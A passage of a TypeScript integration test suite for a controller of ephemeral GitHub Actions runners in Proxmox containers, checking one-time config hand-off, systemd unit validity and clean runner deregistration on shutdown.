      look.get("processes") || "none",
      (look.get("processes") ?? "").trim() === "",
    );
    expectGroup(g);
  });

  it("the hand-off takes one config per life, and keeps none once the runner started", function () {
    const g = "hand-off";
    const second = run(PCT, ["exec", String(VMID), "--keep-env", "0", "--", "/opt/cco/jit-handoff.sh"], {
      env: pctEnv(),
      input: "QUJD\n",
    });
    probes.add(
      g,
      "a second config in the same life",
      "refused, exit 1",
      `exit ${second.status}: ${second.stderr.trim()}`,
      second.status === 1 && second.stderr.includes("already got"),
    );
    const r = ct.exec("find /run/cco/jit /run/cco-jit -mindepth 1 | wc -l; stat -c '%U %a' /run/cco/jit /run/cco-jit");
    probes.add(
      g,
      "no config left in /run/cco/jit or /run/cco-jit while the runner waits",
      "0 files; root 700, runner 700",
      r.stdout.replace(/\n/g, " ").trim(),
      r.stdout === "0\nroot 700\nrunner 700\n",
    );
    expectGroup(g);
  });

  it("systemd-analyze verify: the runner unit with its ephemeral drop-in, cco-jit.path, and the controller's unit", function () {
    const g = "units";
    // The controller's unit is the node's; verified in this systemd with a stand-in for its node binary.
    ct.must(
      "cat > /etc/systemd/system/cco-controller.service && install -d /opt/node/bin && ln -sf /bin/true /opt/node/bin/node",
      { input: readFileSync(join(PROJECT_ROOT, "infra", "controller", "files", "cco-controller.service"), "utf8") },
    );
    for (const unit of ["actions-runner.service", "cco-jit.path", "cco-controller.service"]) {
      const r = ct.exec(`systemd-analyze verify /etc/systemd/system/${unit}`);
      const own = (r.stdout + r.stderr)
        .split("\n")
        .filter((l) => l.includes(unit.replace(/\.[a-z]+$/, "")) || l.includes("cco-ephemeral"));
      probes.add(
        g,
        `systemd-analyze verify ${unit}`,
        "exit 0, no warnings about it",
        `exit ${r.status} ${own.join(" ")}`,
        r.status === 0 && own.length === 0,
      );
    }
    const dropins = ct.must("systemctl show -P DropInPaths actions-runner.service").trim();
    probes.add(
      g,
      "the drop-in is loaded",
      "cco-ephemeral.conf",
      dropins,
      dropins.endsWith("actions-runner.service.d/cco-ephemeral.conf"),
    );
    expectGroup(g);
  });

  it("on SIGTERM the controller removes the idle runner from GitHub before its container goes", async function () {
    const gh = github!;
    const idle = gh.listed().find((r) => r.sessionAt !== undefined && r.jobId === undefined)!;
    const g = "controller stop";
    controller!.kill("SIGTERM");
    await new Promise<void>((resolve) =>
      controller!.exitCode !== null ? resolve() : controller!.once("exit", () => resolve()),
    );
    probes.add(g, "the controller exits 0", "0", String(controller!.exitCode), controller!.exitCode === 0);
    probes.add(
      g,
      "the idle runner was removed by DELETE",
      "removed by delete",
      `${idle.name}: ${idle.removedBy}`,
      idle.removedBy === "delete",
    );
    const stops = readFileSync(pctLog, "utf8")
      .split("\n")
      .filter((l) => / stop /.test(l))
      .map((l) => Number(l.split(" ")[0]) * 1000);
    const lastStop = stops.at(-1) ?? 0;
    probes.add(
      g,
      "removed before pct stop",
      "DELETE time < stop time",
      `${idle.removedAt} < ${lastStop}`,
      idle.removedAt !== undefined && idle.removedAt <= lastStop,
    );
    const status = pct("status", String(VMID)).stdout.trim();
    probes.add(g, "the container is stopped", "status: stopped", status, status === "status: stopped");
    probes.add(
      g,
      "GitHub lists no runner of ours (no offline ghost)",
      "0",
      String(gh.listed().length),
      gh.listed().length === 0,
    );
    expectGroup(g);
  });
});
